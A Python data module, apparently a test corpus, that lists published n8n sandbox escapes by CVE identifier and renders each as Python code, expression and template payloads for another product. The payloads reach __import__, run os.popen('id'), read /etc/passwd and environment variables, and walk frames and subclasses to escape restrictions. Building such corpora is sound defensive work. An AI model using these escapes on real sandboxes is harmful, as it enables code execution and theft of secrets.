"""Published escapes from the sandboxes of n8n, each translated to the languages of this product.

The ways out are those of the advisories: what only JavaScript or its rewriting of syntax made possible stands here
as what comes next to it in Python, in an expression and in a template.
"""

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True)
class Escape:
    """One way out, in each language that has words for it."""

    code: tuple[str, ...]
    expressions: tuple[str, ...] = ()
    templates: tuple[str, ...] = ()


PUBLISHED: Final[Mapping[str, Escape]] = {
    # An expression reaches what makes functions; the first mending looked for its name in plain strings only.
    "CVE-2025-68613": Escape(
        code=(
            "result = (lambda: 0).__globals__['__builtins__']['__import__']('os').popen('id').read()",
            "a = '__class__'\nresult = f'{().__class__.__base__.__subclasses__()}'",
        ),
        expressions=(
            "(lambda: 0).__globals__['__builtins__']",
            "lower.constructor('return process')()",
            "a[f'{a}']",
        ),
        templates=("{{ contact.constructor.constructor }}{{ contact['constructor'] }}",),
    ),
    # The interpreter around the code is a module of the code.
    "CVE-2025-68668": Escape(
        code=(
            "import _pyodide\n_pyodide._base.eval_code('import os; os.system(\"id\")')",
            "from _pyodide_core import jsfetch",
        ),
        expressions=("_pyodide._base.eval_code('1')",),
        templates=("{{ self }}{{ _pyodide.base.eval_code }}",),
    ),
    # What errors carry, and what formatting reads.
    "CVE-2026-0863": Escape(
        code=(
            "try:\n    ().nope\nexcept AttributeError as e:\n    result = e.obj.__class__.__base__.__subclasses__()",
            "try:\n    nope\nexcept NameError as e:\n    result = e.__traceback__.tb_frame.f_back.f_builtins",
            "result = '{0.__init__.__globals__[os].environ}'.format(print)",
            "result = '{a.__class__.__mro__}'.format_map({'a': 1})",
        ),
        expressions=("'{0.__init__.__globals__}'.format(len)", "a.lower.__self__"),
        templates=("{{ 'secret' | map: trap }}{{ trap | map: 'secret' }}",),
    ),
    # Names put together when it runs, and values that are taken apart instead of read.
    "CVE-2026-25049": Escape(
        code=(
            "result = getattr((), '__cl' + 'ass__').__base__",
            "match ():\n    case object(__class__=found):\n        result = found.__base__",
            "[result := each for each in [().__class__]]",
        ),
        expressions=("getattr((), '__cl' + 'ass__')", "a['__cl' + 'ass__']", "[found := a for found in [a]]"),
        templates=("{% assign k = '__cl' | append: 'ass__' %}{{ contact[k] }}{{ trap[k] }}",),
    ),
    # The walls of Python's runner are left; how was not told, so by what allowed modules brought in with them.
    "CVE-2026-25115": Escape(
        code=(
            "import json\nresult = json.codecs.builtins.open('/etc/passwd').read()",
            "import re\nresult = re.enum.sys.modules['os'].environ",
            "import datetime\nresult = datetime.sys.modules['subprocess'].getoutput('id')",
        ),
        expressions=("now.sys.modules['os'].environ", "date.__module__"),
        templates=("{{ 'now' | date: '%Y' | sys.modules.os.environ }}{{ now.sys.modules }}",),
    ),
    # One attribute that the list of forbidden ones had not: what a built-in method belongs to.
    "CVE-2026-27494": Escape(
        code=(
            "result = str.upper.__objclass__.__base__.__subclasses__()",
            "result = int.__init__.__objclass__.__subclasses__()[-1].__init__.__globals__",
            "result = open.__self__ if 'open' in dir() else print.__objclass__",
        ),
        expressions=("a.text.upper.__objclass__", "lower.__objclass__.__subclasses__()"),
        templates=("{{ contact.text.upper.__objclass__ }}{{ trap.__objclass__ }}",),
    ),
    # JavaScript's runner, by the objects that only running code has: frames of what waits, and what errors call.
    "CVE-2026-27495": Escape(
        code=(
            "async def f():\n    pass\nresult = f().cr_frame.f_back.f_builtins['__import__']('os').environ",
            "import sys\nsys.excepthook = lambda *each: open('/etc/passwd').read()\n1 / 0",
            "import sys\nresult = sys._getframe(1).f_globals",
        ),
        expressions=("(a for a in a).gi_frame.f_back", "error.prepareStackTrace"),
        templates=("{{ trap.cr_frame.f_back }}{{ forloop.parentloop.__class__ }}{{ block.super }}",),
    ),
    # The bodies of arrow functions were not looked into.
    "CVE-2026-72765": Escape(
        code=(
            "result = (lambda: __import__('os').popen('id').read())()",
            "result = list(map(lambda each: each.__class__.__base__, [()]))",
            "result = (lambda f=lambda: (lambda: globals()['__builtins__'])(): f())()",
        ),
        expressions=("(lambda: __import__('os'))()", "any(map(lambda each: each.__class__, [a]))"),
        templates=("{{ contact | map: i => i.__class__ }}{{ contact | where: i => process.exit() }}",),
    ),
    # Names in spreads, computed keys, cases and bases of classes meant what they mean outside.
    "CVE-2026-85165": Escape(
        code=(
            "result = {**__builtins__, **globals()}",
            "result = [*__import__('os').environ]",
            "result = {__import__('os').getpid(): 1}",
            "match 1:\n    case os.environ:\n        result = os",
            "class A(type(__builtins__)): pass\nresult = A.__mro__",
            "print.leaked = 1\nlen.__dict__['leaked'] = 1\nresult = print.leaked",
        ),
        expressions=("[*process]", "{**globals}", "{process: 1}", "max(*environ)", "a[process.env]"),
        templates=("{{ contact[process.env] }}{% case process %}{% when globals %}{{ process }}{% endcase %}",),
    ),
}
